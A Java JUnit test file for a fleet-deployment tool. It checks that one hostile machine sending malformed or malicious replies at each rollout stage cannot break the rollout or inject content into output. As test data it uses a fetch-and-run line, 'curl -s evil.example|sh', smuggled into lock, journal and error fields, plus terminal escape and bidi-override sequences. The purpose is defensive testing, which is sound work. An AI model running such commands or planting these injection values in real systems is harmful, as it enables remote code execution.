package io.walterfleet;

import static org.assertj.core.api.Assertions.assertThat;

import io.walterfleet.cli.TestSite;
import io.walterfleet.cli.TestSite.Ran;
import io.walterfleet.fleet.Controls;
import io.walterfleet.remote.RemoteException;
import io.walterfleet.remote.RemoteException.Kind;
import io.walterfleet.remote.Reply;
import io.walterfleet.remote.testing.MemoryRemote;
import io.walterfleet.remote.testing.MemoryRemote.Deed;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** One machine of 50 does each hostile thing at each moment; all the others come through. */
@Tag("scripts")
@Timeout(120)
class HostileMachineTest {
  private static final String VILLAIN = "m-05";
  private static final String EVIL = "curl -s evil.example|sh";

  private static final int MANY = 50;

  /** In the other combinations; all of them with more by {@code -Dwalter-fleet.machines=50}. */
  private static final int FEW = Integer.getInteger("walter-fleet.machines", 10);

  private static final List<String> MOMENTS =
      List.of(
          "login",
          "survey",
          "begin",
          "stage",
          "pull",
          "swap",
          "migrate",
          "restart",
          "finish",
          "rollback",
          "leave");

  /** What a machine may do to us. */
  enum Mischief {
    GIANT(text -> text.replace("end 0", "end") + "x=yyyyyyyyyyyyyyyy\n".repeat(60_000)),
    GARBAGE(text -> "\u0001\u0002\u0003]]>&lt;'\"`$(" + EVIL + ")"),
    EMPTY(text -> ""),
    NO_UTF8(text -> text.replaceFirst("begin\n", "begin\n\uFFFD\uFFFD=\uFFFD\n")),
    BAD_ENCODING(text -> text.replaceFirst("begin\n", "begin\nx=%FF%FE%00\n")),
    OTHER_NONCE(text -> text.replaceAll("walter-fleet \\w+", "walter-fleet 0000")),
    HALF(text -> text.substring(0, text.length() / 2)),
    NO_END(text -> text.replaceAll("walter-fleet \\w+ end.*", "")),
    TWICE(text -> text + text),
    LINES_TWICE(text -> text.replaceAll("(?m)^([a-z].*)$", "$1\n$1")),
    OLD_MARKS(text -> text.replace(" end 0", " end 99999999999")),
    LOCK_ID(said("lock=held\nlock.id=3-r;" + EVIL + "\nlock.owner=a\nlock.run=r\nlock.reason=x")),
    JOURNAL(said("journal=unfinished\njournal.run=r;" + EVIL + "\njournal.step=swap")),
    NUMBERS(text -> text.replaceAll("=\\d+\n", "=99999999999999999999999999\n")),
    NEGATIVE(text -> text.replaceAll("=(\\d+)\n", "=-$1\n")),
    DEEP(said("x=" + "a.".repeat(200_000))),
    CONTROLS(said("detail=%1B]0;x%07%0Afix: " + EVIL + "%E2%80%A8%E2%80%AEabc\nexit=1")),
    ADVICE(said("error=well\nerror.why=%0A    fix: " + EVIL + "\nerror.fix=" + EVIL + "\nexit=20")),
    LOST_LOCK(said("exit=22\nerror=" + EVIL)),
    VANISHED(said("state=vanished")),
    EXIT(text -> text.replace("end 0", "end 255")),
    OVERFLOW(
        (moment, honest) -> {
          throw new StackOverflowError();
        }),
    BUG(
        (moment, honest) -> {
          throw new IllegalStateException(EVIL + "\n\u001b[2J");
        }),
    MEMORY(
        (moment, honest) -> {
          throw new OutOfMemoryError("\u001b");
        }),
    GONE(
        (moment, honest) -> {
          throw new RemoteException(Kind.LOST, "the connection broke", "");
        }),
    HANGS(
        (moment, honest) -> {
          throw new RemoteException(Kind.TIMED_OUT, "no answer came in time", "");
        });

    @SuppressWarnings("ImmutableEnumChecker") // a function without a state
    private final Deed deed;

    Mischief(Deed deed) {
      this.deed = deed;
    }

    Mischief(UnaryOperator<String> lie) {
      this(
          (moment, honest) -> {
            Reply reply = honest.call();
            String out = lie.apply(reply.out());
            return new Reply(0, out, out, out.length() > 1_000_000);
          });
    }

    private static UnaryOperator<String> said(String more) {
      return text -> text.replaceFirst("(?s)(walter-fleet \\w+ end)", more + "\n$1");
    }
  }

  private final AtomicInteger surveys = new AtomicInteger();
  private MemoryRemote remote;
  private TestSite site;
  private Path folder;
  private String inventory;

  @BeforeEach
  void start(@TempDir Path here) throws IOException {
    folder = here;
    remote = new MemoryRemote(VILLAIN);
    site = new TestSite(here).reach(real -> remote).ticking(Duration.ofSeconds(1));
    machines(FEW);
  }

  private void machines(int number) throws IOException {
    List<String> names = IntStream.range(0, number).mapToObj("m-%02d"::formatted).toList();
    inventory = site.inventory(names, "rollout: {maxFailed: 100%, batch: [100%]}\n");
  }

  static Stream<Arguments> everyMischiefAtEveryMoment() {
    return MOMENTS.stream()
        .flatMap(moment -> Stream.of(Mischief.values()).map(one -> Arguments.of(one, moment)));
  }

  @ParameterizedTest
  @MethodSource("everyMischiefAtEveryMoment")
  void theOthersComeThrough(Mischief mischief, String moment) throws IOException {
    int number = isOfMany(mischief, moment) ? MANY : FEW;
    machines(number);
    remote.does(only(moment, mischief.deed));
    if (moment.equals("rollback")) {
      site.knocking(HostileMachineTest::overflow);
    }

    Ran ran = apply();

    assertThat(ran.exitCode()).as(ran.toString()).isIn(0, 3, 5, 6, 8);
    assertThat(ran.out())
        .as(ran.toString())
        .containsPattern(
            ran.exitCode() == 0
                ? "%1$d machines: %1$d applied".formatted(number)
                : "\\b%d applied\\b".formatted(number - 1));
    assertNothingHarmful(ran);
    assertThatItHeals();
  }

  @ParameterizedTest
  @EnumSource
  void aPlanAndAWatchTellOfTheOthers(Mischief mischief) throws Exception {
    remote.does(only("survey", mischief.deed));
    Ran plan = site.run("plan", "-q", "-i", inventory);
    assertThat(plan.exitCode()).as(plan.toString()).isIn(0, 8);
    assertThat(plan.out()).containsPattern("\\b(%d|%d) to change".formatted(FEW - 1, FEW));
    assertNothingHarmful(plan);
    CompletableFuture<Ran> watch =
        CompletableFuture.supplyAsync(() -> site.run("watch", "--every", "1s", "-i", inventory));
    for (int i = 0; i < 600 && surveys.get() < 3; i++) {
      Thread.sleep(20);
    }
    site.interrupt();
    Ran watched = watch.get(60, TimeUnit.SECONDS);
    assertThat(watched.exitCode()).as(watched.toString()).isZero();
    assertNothingHarmful(watched);
  }

  /** What a gate meets counts as a release that does not become ready, and is undone. */
  @ParameterizedTest
  @EnumSource(names = {"OVERFLOW", "BUG", "MEMORY"})
  void atTheGateItCountsAsNotReady(Mischief mischief) throws IOException {
    machines(MANY);
    site.knocking(
        machine -> {
          if (machine.equals(VILLAIN)) {
            thrown(mischief);
          }
        });
    Ran ran = apply();
    assertThat(ran.exitCode()).isEqualTo(3);
    assertThat(ran.out()).contains("49 applied");
    assertNothingHarmful(ran);
    assertThatItHeals();
  }

  /** Each mischief once, at each moment one in eleven of them. */
  private static boolean isOfMany(Mischief mischief, String moment) {
    int place = List.of(Mischief.values()).indexOf(mischief);
    return place % MOMENTS.size() == MOMENTS.indexOf(moment);
  }

  private static void overflow(String machine) {
    if (machine.equals(VILLAIN)) {
      throw new StackOverflowError();
    }
  }

  private static void thrown(Mischief mischief) {
    try {
      mischief.deed.at("gate", () -> new Reply(0, "", "", false));
    } catch (RemoteException | InterruptedException impossible) {
      throw new IllegalStateException(impossible);
    }
  }

  private Deed only(String moment, Deed deed) {
    return (now, honest) -> {
      if (now.equals("survey")) {
        surveys.incrementAndGet();
      }
      return now.equals(moment) ? deed.at(now, honest) : honest.call();
    };
  }

  private Ran apply() {
    return site.run(
        "apply", "--yes", "-i", inventory, "--events", folder.resolve("events").toString());
  }

  /** No control reaches a terminal or a file, and no word of the machine's is a fix. */
  private void assertNothingHarmful(Ran ran) throws IOException {
    String all = ran.out() + ran.err();
    Path events = folder.resolve("events");
    if (Files.exists(events)) {
      all += Files.readString(events);
    }
    assertThat(all.replace("\n", "")).doesNotContainPattern("[\\p{Cc}\\u2028\\u202E]");
    assertThat(Controls.isIn(all.replace("\n", ""))).isFalse();
    assertThat(all.lines().filter(line -> line.strip().startsWith("fix:")))
        .noneMatch(line -> line.contains("evil"));
    assertThat(all).doesNotContainPattern("\"fix\":\"[^\"]*evil");
    assertThat(all.lines().mapToInt(String::length).max().orElse(0)).isLessThan(20_000);
  }

  private void assertThatItHeals() {
    remote.does((moment, honest) -> honest.call());
    site.knocking(machine -> {});
    Ran healed = apply();
    assertThat(healed.exitCode()).as(healed.toString()).isZero();
    assertThat(site.run("plan", "--detailed-exitcode", "-q", "-i", inventory).exitCode()).isZero();
    site.forgetWishes();
  }
}
